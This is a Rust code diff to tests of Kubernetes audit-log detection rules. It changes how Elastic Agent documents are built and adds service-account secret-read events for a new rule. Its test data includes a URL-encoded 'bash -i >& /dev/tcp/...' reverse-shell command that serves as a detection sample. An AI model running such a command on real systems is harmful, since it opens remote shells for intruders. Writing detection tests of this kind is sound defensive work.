@@ -128,14 +128,21 @@ fn elastic_agent(mut event: serde_json::Value) -> serde_json::Value {
             .map(|(k, v)| (k.replace('.', "_"), v))
             .collect();
     }
-    serde_json::json!({
+    let mut document = serde_json::json!({
         "@timestamp": event["requestReceivedTimestamp"],
         "data_stream": {"dataset": "kubernetes.audit_logs"},
         "event": {"action": event["verb"]},
-        "user": {"name": event["user"]["username"]},
-        "user_agent": {"original": event["userAgent"]},
-        "kubernetes": {"audit": event},
-    })
+    });
+    // The pipeline copies a value only when there is one (`ignore_empty_value`).
+    let present = |v: &serde_json::Value| v.as_str().is_some_and(|s| !s.is_empty());
+    if present(&event["user"]["username"]) {
+        document["user"] = serde_json::json!({"name": event["user"]["username"]});
+    }
+    if present(&event["userAgent"]) {
+        document["user_agent"] = serde_json::json!({"original": event["userAgent"]});
+    }
+    document["kubernetes"] = serde_json::json!({"audit": event});
+    document
 }
 
 /// The imported rules fire on raw audit events and on Elastic Agent's documents alike, keep
@@ -204,6 +211,19 @@ fn imported_rules_fire_on_raw_and_elastic_agent_events() {
             }),
         )
     };
+    let sa_read = |id: &str, second: u32, user: &str, pod: &str| {
+        raw(
+            id,
+            second,
+            serde_json::json!({
+                "verb": "get", "sourceIPs": ["10.0.0.7"],
+                "user": {"username": user, "groups": ["system:serviceaccounts"],
+                         "extra": {"authentication.kubernetes.io/pod-name": [pod]}},
+                "objectRef": {"resource": "secrets", "namespace": "web", "name": "db"},
+                "annotations": {"authorization.k8s.io/decision": "allow"},
+            }),
+        )
+    };
     let events = [
         pod("raw-pod", 0, "alpine"),
         elastic_agent(pod("agent-pod", 1, "alpine")),
@@ -237,6 +257,14 @@ fn imported_rules_fire_on_raw_and_elastic_agent_events() {
             "bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261",
         ),
         exec("health", 31, "cat+%3C+%2Fdev%2Ftcp%2Flocalhost%2F8080"),
+        // A key of `user.extra` with dots in it: the trivy operator's pod is left out.
+        sa_read("sa-read", 40, "system:serviceaccount:web:default", "api-0"),
+        elastic_agent(sa_read(
+            "trivy",
+            41,
+            "system:serviceaccount:security:trivy-operator",
+            "trivy-operator-5d8f",
+        )),
     ]
     .map(|e| e.to_string());
     let fired = fired(&out, &events);
@@ -264,6 +292,11 @@ fn imported_rules_fire_on_raw_and_elastic_agent_events() {
     assert_eq!(
         fired.get("kubernetes_pod_exec_potential_reverse_shell"),
         Some(&vec!["shell".to_owned()]),
+        "{fired:#?}"
+    );
+    assert_eq!(
+        fired.get("kubernetes_secret_get_or_list_from_node_or_pod_service_account"),
+        Some(&vec!["sa-read".to_owned()]),
         "{fired:#?}"
     );
 }
